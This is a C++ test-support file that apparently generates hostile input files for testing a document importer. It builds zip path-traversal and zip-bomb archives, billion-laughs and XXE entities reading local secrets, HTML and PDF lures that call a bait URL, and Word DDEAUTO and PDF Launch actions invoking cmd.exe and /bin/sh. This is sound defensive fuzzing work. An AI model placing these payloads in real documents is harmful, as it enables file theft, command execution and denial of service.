#include "hostile_manuscripts.h"

#include "../unit/formats/docx_files.h"

#include <algorithm>

#include <zlib.h>

using namespace Qt::StringLiterals;

namespace banxin::test {

using support::docxOf;
using support::paragraphOf;
using support::zipOf;

namespace {

template <typename Number> void put(QByteArray &to, Number value, int bytes)
{
    for (int i = 0; i < bytes; ++i)
        to += static_cast<char>((static_cast<std::uint64_t>(value) >> (8 * i)) & 0xFF);
}

/// A stream of deflate without zlib's head and tail.
QByteArray deflated(const QByteArray &bytes) { return qCompress(bytes, 9).mid(6).chopped(4); }

QByteArray story(const char *title)
{
    return QByteArray(title) + "\n\n　　大桥昨天通车，两岸居民来往只要三分钟。\n\n　　桥面宽十二米，造价三百万元。\n";
}

QByteArray nested(const QByteArray &piece, int times) { return piece.repeated(times); }

} // namespace

QByteArray rawZip(const std::vector<RawEntry> &entries)
{
    QByteArray all, directory;
    int count = 0;
    for (const RawEntry &entry : entries) {
        const QByteArray packed = entry.isDeflated ? deflated(entry.bytes) : entry.bytes;
        const auto sum =
            crc32(0, reinterpret_cast<const Bytef *>(entry.bytes.constData()), static_cast<uInt>(entry.bytes.size()));
        const qint64 size = entry.claimedSize < 0 ? entry.bytes.size() : entry.claimedSize;
        const auto facts = [&](QByteArray &to) { // PKWARE APPNOTE 4.3.7, 4.3.12
            put(to, 20, 2);
            put(to, 0x0800, 2);
            put(to, entry.isDeflated ? 8 : 0, 2);
            put(to, (21 << 5) | 1, 4);
            put(to, sum, 4);
            put(to, packed.size(), 4);
            put(to, size, 4);
            put(to, entry.name.size(), 2);
            put(to, 0, 2);
        };
        const qsizetype at = all.size();
        all += "PK\x03\x04";
        facts(all);
        all += entry.name + packed;
        for (int i = 0; i < entry.times; ++i, ++count) {
            directory += "PK\x01\x02";
            put(directory, (3 << 8) | 20, 2); // made by Unix
            facts(directory);
            put(directory, 0, 6);
            put(directory, (entry.isLink ? 0120777u : 0100644u) << 16, 4);
            put(directory, at, 4);
            directory += entry.name;
        }
    }
    const qsizetype at = all.size();
    all += directory + "PK\x05\x06";
    put(all, 0, 4);
    put(all, count, 2);
    put(all, count, 2);
    put(all, directory.size(), 4);
    put(all, at, 4);
    put(all, 0, 2);
    return all;
}

std::vector<HostileFile> archivesOf(const Bait &bait)
{
    const QByteArray text = story("渡口改桥通车");
    std::vector<HostileFile> all;
    const auto add = [&](const QString &name, const std::vector<RawEntry> &entries) {
        all.push_back({name, rawZip(entries)});
    };
    QByteArray up = "../";
    for (const char *ending : {"txt", "html", "jpg", "docx"})
        add(u"up-%1.zip"_s.arg(QLatin1String(ending)),
            {{up.repeated(2) + "outside." + ending, text}, {up.repeated(6) + "further." + ending, text},
                {"稿/../../between." + QByteArray(ending), text}, {"稿.txt", text}});
    add(u"absolute.zip"_s,
        {{bait.folder + "/absolute.txt", text}, {"//" + bait.folder + "/two.txt", text}, {"稿.txt", text}});
    add(u"backslashes.zip"_s,
        {{"..\\..\\outside.txt", text}, {"C:\\outside.txt", text}, {"\\\\host\\share\\outside.txt", text},
            {"稿.txt", text}});
    add(u"nul.zip"_s, {{QByteArray("稿.txt\0../../outside.txt", 25), text}, {QByteArray("\0", 1), text}, {"", text}});
    add(u"controls.zip"_s,
        {{"a\nb\t\x1b[2J\x07.txt", text}, {"\xE2\x80\xAEtxt.exe", text}, {"\xFF\xFE\xFD.txt", text}});
    add(u"link.zip"_s,
        {{"a", bait.secret, false, true}, {"b.txt", "../../../outside.txt", false, true}, {"b.txt", text}});
    add(u"link-folder.zip"_s, {{"a", bait.folder, false, true}, {"a/through.txt", text}});
    add(u"same-names.zip"_s, {{"a.txt", text}, {"a.txt", "b"}, {"A.TXT", text}, {"a.txt/b.txt", text}});
    add(u"long-name.zip"_s,
        {{QByteArray(60'000, 'n') + ".txt", text}, {QByteArray("d/").repeated(30'000) + "x.txt", text}});
    const QByteArray zeros(QByteArray(32 << 20, '\0'));
    add(u"bomb.zip"_s, {{"a.txt", zeros, true}});
    add(u"bomb-spaces.zip"_s, {{"a.html", "<p>" + QByteArray(32 << 20, ' '), true}});
    add(u"bomb-overlapping.zip"_s, {{"a.txt", QByteArray(4 << 20, 'a'), true, false, -1, 9000}});
    add(u"claims-less.zip"_s, {{"a.txt", zeros, true, false, 10}, {"b.txt", text, true, false, 1}});
    add(u"claims-more.zip"_s, {{"a.txt", text, true, false, 0xFFFFFFFE}, {"b.txt", text, false, false, 150 << 20}});
    add(u"claims-nothing.zip"_s, {{"a.txt", text, true, false, 0}});
    add(u"many.zip"_s, std::vector<RawEntry>(12'000, {"a.txt", "x"}));
    add(u"many-small.zip"_s, std::vector<RawEntry>(1'500, {"a.txt", text}));
    QByteArray inner = rawZip({{"稿.txt", text}});
    for (int i = 0; i < 200; ++i)
        inner = rawZip({{"inner.zip", inner}});
    all.push_back({u"nested.zip"_s, inner});
    add(u"nested-bomb.zip"_s, {{"a.zip", rawZip({{"a.txt", zeros, true}}), true}, {"稿.txt", text}});
    const QByteArray word = docxOf(paragraphOf(u"渡口改桥通车"_s), {{u"../../outside.xml"_s, "x"}});
    add(u"word-within.zip"_s, {{"../a.docx", word}, {"a.docx", word}, {"b.html", "<img src=" + bait.url + "/zip>"}});
    return all;
}

std::vector<HostileFile> webPagesOf(const Bait &bait)
{
    const QByteArray &url = bait.url;
    const QByteArray body = "<h1>渡口改桥通车</h1><p>大桥昨天通车，两岸居民来往只要三分钟。</p>";
    std::vector<HostileFile> all;
    const auto add = [&](const QString &name, const QByteArray &html) { all.push_back({name, html}); };
    const std::vector<std::pair<const char *, QByteArray>> lures = {
        {"picture",
            "<img src='U/1' srcset='U/2 2x'><picture><source srcset='U/3'></picture><input type=image src='U/4'>"},
        {"styles",
            "<link rel=stylesheet href='U/1'><style>@import url(U/2); p{background:url(U/3)}</style>"
            "<p style='background:url(U/4)'>段</p><body background='U/5'>"},
        {"frames",
            "<iframe src='U/1'></iframe><frameset><frame src='U/2'></frameset><object data='U/3'></object><embed "
            "src='U/4'><applet codebase='U/5'></applet>"},
        {"refresh", "<meta http-equiv=refresh content='0;url=U/1'><base href='U/2/'><img src='relative.jpg'>"},
        {"script",
            "<script src='U/1'></script><script>fetch('U/2');location='U/3'</script><body onload='fetch(\"U/4\")'>"},
        {"media", "<video src='U/1' poster='U/2' autoplay></video><audio src='U/3'></audio><track src='U/4'>"},
        {"hints",
            "<link rel=prefetch href='U/1'><link rel=dns-prefetch href='U'><link rel=manifest href='U/2'><link "
            "rel=icon href='U/3'><a ping='U/4' href='U/5'>a</a>"},
        {"svg",
            "<svg><image href='U/1' xlink:href='U/2'/><use href='U/3#a'/><style>@import 'U/4'</style></svg><img "
            "src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='U/5'/></svg>\">"},
        {"form",
            "<form action='U/1'><button autofocus onfocus='form.submit()'>x</button></form><isindex action='U/2'>"},
        {"local",
            "<img src='file://SECRET'><iframe src='file://SECRET'></iframe><img src='../../../../etc/passwd'><img "
            "src='\\\\host\\share\\a.jpg'>"},
        {"entities", "<!DOCTYPE html [<!ENTITY x SYSTEM 'file://SECRET'><!ENTITY y SYSTEM 'U/1'>]><p>&x;&y;</p>"},
        {"data", "<img src='data:image/png;base64,AAAA'><img src='data:,x'><img src='data:text/html,<img src=U/1>'>"},
    };
    for (const auto &[name, lure] : lures) {
        QByteArray page = "<!DOCTYPE html><html><head><meta charset=utf-8></head><body>" + lure + body;
        page.replace("U/", url + '/').replace("'U'", '\'' + url + '\'').replace("SECRET", bait.secret);
        add(u"%1.html"_s.arg(QLatin1String(name)), page);
    }
    add(u"xhtml.html"_s,
        "<?xml version='1.0'?><!DOCTYPE html [<!ENTITY x SYSTEM 'file://" + bait.secret
            + "'><!ENTITY a 'aaaaaaaa'>"
              "<!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;'>]><html "
              "xmlns='http://www.w3.org/1999/xhtml'>"
              "<body><p>&x;&c;</p>"
            + body);
    add(u"deep.html"_s, "<html><body>" + nested("<div>", 100'000) + body);
    add(u"deep-b.html"_s, "<html><body>" + nested("<b><i>", 50'000) + body);
    add(u"deep-tables.html"_s, "<html><body>" + nested("<table><tr><td>", 30'000) + body);
    add(u"deep-lists.html"_s, "<html><body>" + nested("<ul><li>", 900) + body);
    add(u"misnested.html"_s, "<html><body>" + nested("<a><p><b><table></a></p></b>", 2'000) + body);
    QByteArray attributes = "<html><body><p ";
    for (int i = 0; i < 1'000'000; ++i)
        attributes += "a" + QByteArray::number(i) + "=1 ";
    add(u"attributes.html"_s, attributes + ">" + body);
    add(u"long-attribute.html"_s, "<html><body><p class='" + QByteArray(8 << 20, 'c') + "'>" + body);
    add(u"unclosed.html"_s, "<html><body>" + body + "<!--" + QByteArray("-").repeated(1 << 20));
    add(u"tags.html"_s, "<html><body>" + body + QByteArray("<").repeated(1 << 20));
    add(u"cells.html"_s, "<html><body><table>" + nested("<tr>" + nested("<td>1", 300), 300) + "</table>" + body);
    add(u"spans.html"_s,
        "<html><body><table><tr><td colspan=2000000000 rowspan=2000000000>1<td colspan=-5>2</table>"
        "<ol start=2147483647><li>a<li>b</ol><ol start=-99999999999><li value=99999999999>c</ol>"
            + body);
    add(u"links.html"_s, "<html><body>" + nested("<a href='" + url + "'>新闻</a> ", 50'000) + body);
    add(u"breaks.html"_s, "<html><body><p>" + nested("行<br>", 8'000) + body);
    add(u"references.html"_s, "<html><body><p>&#0;&#xD800;&#x110000;&#xFFFFFFFFFF;&#x202E;&nosuch;&amp" + body);
    add(u"charset.html"_s, "<html><head><meta charset='UTF-7'></head><body>+ADw-script+AD4-" + body);
    add(u"charset-long.html"_s, "<html><head>" + nested("<meta charset='", 20'000) + body);
    return all;
}

std::vector<HostileFile> wordFilesOf(const Bait &bait)
{
    const QByteArray text = paragraphOf(u"渡口改桥通车"_s) + paragraphOf(u"大桥昨天通车，两岸居民来往只要三分钟。"_s);
    const QByteArray relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    const auto picture = [](const QByteArray &reference) {
        return "<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><a:blip " + reference
            + "/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>";
    };
    std::vector<HostileFile> all;
    const auto add = [&](const QString &name, const QByteArray &bytes) { all.push_back({name, bytes}); };
    QByteArray relations;
    int number = 0;
    for (const char *kind : {"image", "attachedTemplate", "oleObject", "aFChunk", "subDocument", "hyperlink", "frame",
             "video", "font", "settings", "styles", "numbering", "footnotes"}) {
        for (const QByteArray &target :
            {bait.url + "/word", "file://" + bait.secret, QByteArray("../../../../outside")})
            relations += "<Relationship Id=\"x" + QByteArray::number(number++) + "\" Type=\"" + relation + kind
                + "\" TargetMode=\"External\" Target=\"" + target + "\"/>";
    }
    QByteArray pictures;
    for (int i = 0; i < number; ++i)
        pictures += picture((i % 2 ? "r:link=\"x" : "r:embed=\"x") + QByteArray::number(i) + "\"");
    add(u"external.docx"_s,
        docxOf(text + pictures + "<w:altChunk r:id=\"x9\"/><w:subDoc r:id=\"x12\"/>", {}, relations));
    relations.replace(" TargetMode=\"External\"", "");
    add(u"reaching.docx"_s, docxOf(text + pictures, {}, relations));
    const auto field = [](const QByteArray &code) {
        return "<w:p><w:r><w:fldChar w:fldCharType=\"begin\" w:dirty=\"true\"/></w:r><w:r><w:instrText>" + code
            + "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
    };
    add(u"fields.docx"_s,
        docxOf(text + field("INCLUDEPICTURE \"" + bait.url + "/f\" \\d") + field("INCLUDETEXT \"" + bait.secret + "\"")
            + field("DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\"") + nested(field("IF"), 2'000)));
    const QByteArray types = "<?xml version=\"1.0\"?><!DOCTYPE x [";
    const QByteArray open =
        "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>"
        "<w:p><w:r><w:t>";
    const QByteArray close = "</w:t></w:r></w:p></w:body></w:document>";
    QByteArray laughs = "<!ENTITY a0 \"哈\">";
    for (int i = 1; i < 30; ++i)
        laughs += "<!ENTITY a" + QByteArray::number(i) + " \"" + ("&a" + QByteArray::number(i - 1) + ";").repeated(10)
            + "\">";
    const auto wordOf = [](const QByteArray &document) {
        return zipOf({{u"[Content_Types].xml"_s, "<Types/>"}, {u"word/document.xml"_s, document}});
    };
    add(u"laughs.docx"_s, wordOf(types + laughs + "]>" + open + "&a29;" + close));
    add(u"blowup.docx"_s,
        wordOf(types + "<!ENTITY a \"" + QByteArray(1 << 20, 'a') + "\">]>" + open + nested("&a;", 5'000) + close));
    add(u"entity-file.docx"_s,
        wordOf(types + "<!ENTITY x SYSTEM \"file://" + bait.secret + "\">]>" + open + "&x;" + close));
    add(u"entity-net.docx"_s, wordOf(types + "<!ENTITY x SYSTEM \"" + bait.url + "/dtd\">]>" + open + "&x;" + close));
    add(u"entity-parameter.docx"_s, wordOf(types + "<!ENTITY % x SYSTEM \"" + bait.url + "/p\">%x;]>" + open + close));
    add(u"doctype.docx"_s, wordOf("<!DOCTYPE x SYSTEM \"" + bait.url + "/x.dtd\">" + open + "文" + close));
    add(u"include.docx"_s,
        wordOf("<w:document xmlns:xi=\"http://www.w3.org/2001/XInclude\" xmlns:w=\"http://schemas.openxmlformats.org/"
               "wordprocessingml/2006/main\"><w:body><xi:include href=\"file://"
            + bait.secret + "\" parse=\"text\"/></w:body></w:document>"));
    add(u"styles-laugh.docx"_s, docxOf(text, {{u"styles.xml"_s, types + laughs + "]><w:styles>&a29;</w:styles>"}}));
    add(u"deep.docx"_s, docxOf(nested("<w:sdt><w:sdtContent>", 50'000) + text));
    add(u"deep-closed.docx"_s, docxOf(nested("<w:tbl><w:tr><w:tc>", 70) + text + nested("</w:tc></w:tr></w:tbl>", 70)));
    add(u"deeper-closed.docx"_s,
        docxOf(nested("<w:sdt><w:sdtContent>", 50'000) + text + nested("</w:sdtContent></w:sdt>", 50'000)));
    add(u"boxes.docx"_s,
        docxOf(nested("<w:p><w:r><w:pict><v:shape><v:textbox><w:txbxContent>", 20) + text
            + nested("</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>", 20)));
    add(u"cells.docx"_s,
        docxOf(text + "<w:tbl>" + nested("<w:tr>" + nested("<w:tc><w:p/></w:tc>", 200) + "</w:tr>", 200) + "</w:tbl>"));
    QByteArray attributes;
    for (int i = 0; i < 200'000; ++i)
        attributes += " a" + QByteArray::number(i) + "=\"1\"";
    add(u"attributes.docx"_s, docxOf("<w:p" + attributes + "/>" + text));
    add(u"loops.docx"_s,
        docxOf("<w:p><w:pPr><w:pStyle w:val=\"a\"/></w:pPr><w:r><w:t>标题</w:t></w:r></w:p>" + text,
            {{u"styles.xml"_s,
                "<w:styles NS><w:style w:type=\"paragraph\" w:styleId=\"a\"><w:basedOn w:val=\"b\"/></w:style><w:style "
                "w:type=\"paragraph\" w:styleId=\"b\"><w:basedOn w:val=\"a\"/></w:style></w:styles>"}}));
    add(u"numbers.docx"_s,
        docxOf("<w:p><w:pPr><w:numPr><w:ilvl w:val=\"99999999\"/><w:numId w:val=\"1\"/></w:numPr></w:pPr></w:p>"
               "<w:p><w:pPr><w:numPr><w:ilvl w:val=\"-1\"/><w:numId w:val=\"1\"/></w:numPr></w:pPr></w:p>"
                + nested("<w:p><w:pPr><w:numPr><w:ilvl w:val=\"0\"/><w:numId w:val=\"1\"/></w:numPr></w:pPr></w:p>", 3)
                + text,
            {{u"numbering.xml"_s,
                "<w:numbering NS><w:abstractNum w:abstractNumId=\"0\"><w:lvl w:ilvl=\"0\"><w:start "
                "w:val=\"2147483647\"/>"
                "<w:numFmt w:val=\"upperRoman\"/><w:lvlText w:val=\"%1%2%9%0%%\"/></w:lvl></w:abstractNum><w:num "
                "w:numId=\"1\"><w:abstractNumId w:val=\"0\"/></w:num></w:numbering>"}}));
    add(u"macro.docx"_s,
        docxOf(text, {{u"vbaProject.bin"_s, QByteArray(4096, '\xCC')}, {u"media/x1"_s, QByteArray(9, 'x')}}));
    add(u"media.docx"_s,
        docxOf(text + picture("r:embed=\"a.png\"") + nested(picture("r:embed=\"a.png\""), 3'000),
            {{u"media/a.png"_s, support::smallPng()}}));
    return all;
}

std::vector<HostileFile> pdfsOf(const Bait &bait)
{
    const auto pdfOf = [](const std::vector<QByteArray> &objects) {
        QByteArray pdf = "%PDF-1.7\n",
                   table = "xref\n0 " + QByteArray::number(int(objects.size()) + 1) + "\n0000000000 65535 f \n";
        for (std::size_t i = 0; i < objects.size(); ++i) {
            table += QByteArray::number(pdf.size()).rightJustified(10, '0') + " 00000 n \n";
            pdf += QByteArray::number(int(i) + 1) + " 0 obj\n" + objects[i] + "\nendobj\n";
        }
        const qsizetype at = pdf.size();
        return pdf + table + "trailer\n<</Root 1 0 R/Size " + QByteArray::number(int(objects.size()) + 1)
            + ">>\nstartxref\n" + QByteArray::number(at) + "\n%%EOF\n";
    };
    const QByteArray page =
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F<</Type/Font"
        "/Subtype/Type1/BaseFont/Helvetica>>>>>>";
    const auto streamOf = [](const QByteArray &bytes, const QByteArray &more = {}) {
        return "<</Length " + QByteArray::number(bytes.size()) + more + ">>stream\n" + bytes + "\nendstream";
    };
    const QByteArray text = streamOf("BT /F 12 Tf 50 700 Td (The bridge was opened yesterday.) Tj ET");
    const QByteArray pages = "<</Type/Pages/Kids[3 0 R]/Count 1>>", catalog = "<</Type/Catalog/Pages 2 0 R";
    std::vector<HostileFile> all;
    const auto add = [&](const QString &name, const std::vector<QByteArray> &objects) {
        all.push_back({name, pdfOf(objects)});
    };
    add(u"launch.pdf"_s,
        {catalog + "/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>/AA<</WC<</S/URI/URI(" + bait.url
                + "/aa)>>>>>>",
            pages, page + "/AA<</O<</S/Launch/F(" + bait.folder + "/x)>>>>>>", text});
    add(u"addresses.pdf"_s,
        {catalog + "/OpenAction<</S/URI/URI(" + bait.url + "/open)>>/URI<</Base(" + bait.url + ")>>>>", pages,
            page + "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 600 800]/A<</S/URI/URI(" + bait.url
                + "/link)>>>><</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/SubmitForm/F(" + bait.url
                + "/submit)>>>><</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(file://" + bait.secret
                + ")/D[0/Fit]>>>><</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F(" + bait.url + "/movie)>>>>]>>",
            text});
    add(u"script.pdf"_s,
        {catalog + "/OpenAction<</S/JavaScript/JS(app.launchURL('" + bait.url
                + "/js');this.exportDataObject\\({cName:'a'}\\))>>/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/"
                  "F(../../outside"
                  ".exe)/EF<</F 4 0 R>>>>]>>>>/AcroForm<</XFA 4 0 R/Fields[]>>>>",
            pages, page + ">>", text});
    add(u"elsewhere.pdf"_s,
        {catalog + ">>", pages, page + ">>",
            "<</Length 0/F<</FS/URL/F(" + bait.url + "/stream)>>>>stream\n\nendstream"});
    add(u"elsewhere-file.pdf"_s,
        {catalog + ">>", pages, page + ">>", "<</Length 0/F(" + bait.secret + ")>>stream\n\nendstream"});
    add(u"loop.pdf"_s,
        {catalog + ">>", "<</Type/Pages/Kids[2 0 R 2 0 R 3 0 R]/Count 99999999>>", page + ">>", "4 0 R"});
    add(u"deep.pdf"_s, {catalog + "/X " + nested("[", 100'000) + ">>", pages, page + ">>", text});
    add(u"bomb.pdf"_s,
        {catalog + ">>", pages, page + ">>",
            streamOf(qCompress(qCompress(QByteArray(64 << 20, ' '), 9).mid(4), 9).mid(4),
                "/Filter[/FlateDecode/FlateDecode]")});
    add(u"text-bomb.pdf"_s,
        {catalog + ">>", pages, page + ">>",
            streamOf(qCompress("BT /F 1 Tf " + nested("1 1 Td (aaaaaaaa) Tj ", 300'000) + "ET", 9).mid(4),
                "/Filter/FlateDecode")});
    add(u"huge.pdf"_s,
        {catalog + ">>", pages, "<</Type/Page/Parent 2 0 R/MediaBox[-1e30 -1e30 1e30 1e30]/Contents 4 0 R>>",
            streamOf("1e30 0 0 1e30 1e30 1e30 cm BT /F 1e30 Tf (x) Tj ET")});
    add(u"forms.pdf"_s,
        {catalog + ">>", pages, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources 5 0 R>>",
            streamOf("/X Do /X Do"), "<</XObject<</X 6 0 R>>>>",
            streamOf("/X Do /X Do", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources 5 0 R")});
    all.push_back({u"head.pdf"_s, "%PDF-1.7\n" + QByteArray(1 << 20, '%')});
    return all;
}

std::vector<HostileFile> textsAndPictures()
{
    std::vector<HostileFile> all;
    const auto add = [&](const QString &name, const QByteArray &bytes) { all.push_back({name, bytes}); };
    const auto wide = [](const std::u16string &text) {
        return QByteArray(reinterpret_cast<const char *>(text.data()), qsizetype(text.size() * 2));
    };
    const QByteArray text = story("渡口改桥通车");
    add(u"line.txt"_s, QByteArray("字").repeated((64 << 20) / 3));
    add(u"lines.txt"_s, QByteArray("字\n").repeated(60'000));
    add(u"empty-lines.txt"_s, text + QByteArray(350'000, '\n') + text);
    add(u"spaces.txt"_s, text + QByteArray(1 << 20, ' ') + text);
    add(u"brackets.txt"_s, text + QByteArray("（记者").repeated(100'000));
    add(u"quotes.txt"_s, text + QByteArray("\"字").repeated(200'000));
    add(u"names.txt"_s, "责任编辑：" + QByteArray("王 帆 ").repeated(50'000) + "\n" + text);
    add(u"bars.txt"_s, text + QByteArray("|").repeated(300'000) + "\n|---|\n");
    add(u"marks.md"_s, QByteArray("*_`#>![](").repeated(50'000));
    add(u"pictures.md"_s, text + QByteArray("![a](../../../etc/passwd)\n![b](http://127.0.0.1:1/x)\n").repeated(500));
    add(u"digits.txt"_s, QByteArray("1").repeated(1 << 20) + "年" + QByteArray("9").repeated(1 << 20) + "月\n" + text);
    add(u"dashes.txt"_s, text + QByteArray("-").repeated(1 << 20) + QByteArray("一").repeated(1 << 18));
    add(u"address.txt"_s, "来源：http://" + QByteArray("a.").repeated(1 << 19) + "\n" + text);
    std::u16string lone = u"\xFEFF渡口\xD800改\xDC00桥\xDFFF\xDBFF通车\n\n\xD83D大桥昨天通车。";
    add(u"lone.txt"_s, wide(lone));
    add(u"lone-utf8.txt"_s, text + "\xED\xA0\x80\xED\xB0\x80" + text);
    add(u"nonsense.txt"_s, text + "\xEF\xBF\xBE\xEF\xBF\xBF\xF4\x8F\xBF\xBF" + text);
    QByteArray bidi = text;
    for (const char *control :
        {"\xE2\x80\xAE", "\xE2\x80\xAD", "\xE2\x81\xA6", "\xE2\x80\x8F", "\xE2\x80\x8B", "\xF3\xA0\x80\x81"})
        bidi += QByteArray(control).repeated(2'000) + "倒" + control;
    add(u"bidi.txt"_s, bidi);
    add(u"marks-on-marks.txt"_s, "字" + QByteArray("\xCC\x81").repeated(200'000) + text);
    add(u"boms.txt"_s, "\xEF\xBB\xBF\xEF\xBB\xBF\xFE\xFF\xFF\xFE" + text + "\xEF\xBB\xBF");
    add(u"boms-wide.txt"_s, wide(u"\xFEFF\xFEFF\xFFFE\xFEFF渡口改桥通车\n\n大桥昨天通车。\xFEFF"));
    add(u"bom.txt"_s, "\xEF\xBB\xBF");
    add(u"bom-32.txt"_s, QByteArray("\xFF\xFE\0\0\xFF\xFF\xFF\xFF", 8));
    add(u"nul.txt"_s, text + QByteArray(100, '\0') + text);
    add(u"one-nul.txt"_s, text + QByteArray(1, '\0') + text);
    add(u"escapes.txt"_s, text + "\x1b]0;x\x07\x1b[2J" + text);
    add(u"empty.txt"_s, {});
    add(u"gb.txt"_s, QByteArray::fromHex("b6c9bfda848bb1b1").repeated(1000) + "\x81");
    const QByteArray png = support::smallPng();
    QByteArray bomb = png;
    bomb.replace(16, 8, QByteArray::fromHex("7fffffff7fffffff"));
    add(u"bomb.png"_s, bomb);
    bomb.replace(16, 8, QByteArray::fromHex("0001869f0001869f"));
    add(u"large.png"_s, bomb);
    add(u"short.jpg"_s, QByteArray::fromHex("ffd8ffe1ffff457869660000"));
    add(u"caption.jpg"_s,
        QByteArray::fromHex("ffd8ffed00ff") + "Photoshop 3.0" + QByteArray(1, '\0') + "8BIM"
            + QByteArray::fromHex("04040000ffffffff1c02") + QByteArray::fromHex("78ffffff") + QByteArray(4096, 'c')
            + QByteArray::fromHex("ffd9"));
    add(u"loop.tif"_s,
        QByteArray::fromHex("49492a0008000000") + QByteArray::fromHex("0100690403000100000008000000")
            + QByteArray::fromHex("08000000"));
    return all;
}

std::vector<HostileFile> officeFilesOf(const Bait &bait)
{
    const QByteArray xml =
        "<?xml version=\"1.0\"?><office:document-content "
        "xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" "
        "xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" "
        "xmlns:draw=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\" "
        "xmlns:xlink=\"http://www.w3.org/1999/xlink\" office:version=\"1.2\"><office:body><office:text>";
    return {
        {u"objects.rtf"_s,
            "{\\rtf1\\ansi{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata "
            "0105000002000000"
                + bait.url.toHex() + "}}{\\field{\\*\\fldinst INCLUDEPICTURE \"" + bait.url
                + "/rtf\" \\\\d}}{\\field{\\*\\fldinst INCLUDETEXT \"" + bait.secret + "\"}}{\\*\\template " + bait.url
                + "/template}\\pard Bridge opened.\\par}"},
        {u"deep.rtf"_s, "{\\rtf1" + nested("{\\b ", 20'000) + "x" + nested("}", 20'000) + "}"},
        {u"remote.odt"_s,
            rawZip({{"mimetype", "application/vnd.oasis.opendocument.text"},
                {"content.xml",
                    xml + "<text:p><draw:frame><draw:image xlink:href=\"" + bait.url
                        + "/odt\" xlink:type=\"simple\" "
                          "xlink:actuate=\"onLoad\"/></draw:frame>Bridge</text:p><text:section text:name=\"a\">"
                          "<text:section-source xlink:href=\"file://"
                        + bait.secret + "\"/></text:section></office:text></office:body></office:document-content>"}})},
    };
}

std::vector<HostileFile> agencyFilesOf(const Bait &bait)
{
    const QByteArray head =
        R"({"uri":"urn:a","type":"text","version":"1","headline":"渡口改桥通车","body_text":"大桥昨天通车。")";
    return {
        {u"renditions.json"_s,
            head + R"(,"renditions":{"original":{"href":")" + bait.url
                + R"(/n","mimetype":"image/jpeg"}},"associations":{"a":{"type":"picture","uri":")" + bait.url
                + R"(/p","renditions":{"main":{"href":"file://)" + bait.secret + R"("}}}}})"},
        {u"body.json"_s,
            head + R"(,"body_html":"<p>x</p><img src=')" + bait.url + R"(/b'><script src=')" + bait.url
                + R"(/s'></script>"})"},
        {u"lone.json"_s, head + R"(,"byline":"\ud800\udc00\ud800 \u0000 \u202e"})"},
        {u"deep.json"_s, head + R"(,"x":)" + nested("[", 200'000)},
        {u"deep-ones.json"_s,
            head + R"(,"associations":)" + nested(R"({"a":{"type":"text","associations":)", 400) + "1"
                + nested("}}", 400) + "}"},
        {u"numbers.json"_s,
            head + R"(,"version":1e999,"wordcount":-99999999999999999999,"headline":[],"body_html":{}})"},
    };
}

QByteArray damaged(const std::vector<HostileFile> &seeds, std::size_t which, std::mt19937_64 &random)
{
    QByteArray bytes = seeds[which].bytes;
    const auto below = [&](qsizetype most) { return most <= 0 ? 0 : qsizetype(random() % std::uint64_t(most)); };
    const auto piece = [&](const QByteArray &of) {
        const qsizetype from = below(of.size());
        return of.mid(from, 1 + below(std::min<qsizetype>(of.size() - from, 4000)));
    };
    for (int wounds = 1 + int(random() % 6); wounds > 0; --wounds) {
        const qsizetype at = below(bytes.size());
        switch (random() % 9) {
        case 0:
            if (!bytes.isEmpty())
                bytes[at] = char(bytes[at] ^ (1 << (random() % 8)));
            break;
        case 1:
            bytes.insert(at, char(random()));
            break;
        case 2:
            bytes.remove(at, 1 + below(64));
            break;
        case 3:
            bytes.insert(at, piece(bytes));
            break;
        case 4:
            bytes.truncate(at);
            break;
        case 5: { // a piece of another of them
            const QByteArray &other = seeds[random() % seeds.size()].bytes;
            bytes.insert(at, piece(other));
            break;
        }
        case 6: { // a length, a count, a place
            static constexpr std::uint32_t numbers[] = {0, 1, 0x7F, 0xFF, 0x7FFF, 0xFFFF, 0x7FFFFFFF, 0xFFFFFFFF};
            QByteArray number;
            put(number, numbers[random() % std::size(numbers)], random() % 2 ? 2 : 4);
            bytes.replace(at, number.size(), number);
            break;
        }
        case 7: { // its beginning with another's end
            const QByteArray &other = seeds[random() % seeds.size()].bytes;
            bytes = bytes.left(at) + other.mid(below(other.size()));
            break;
        }
        default:
            bytes.insert(at, piece(bytes).repeated(1 + int(random() % 20)));
            break;
        }
    }
    return bytes;
}

} // namespace banxin::test
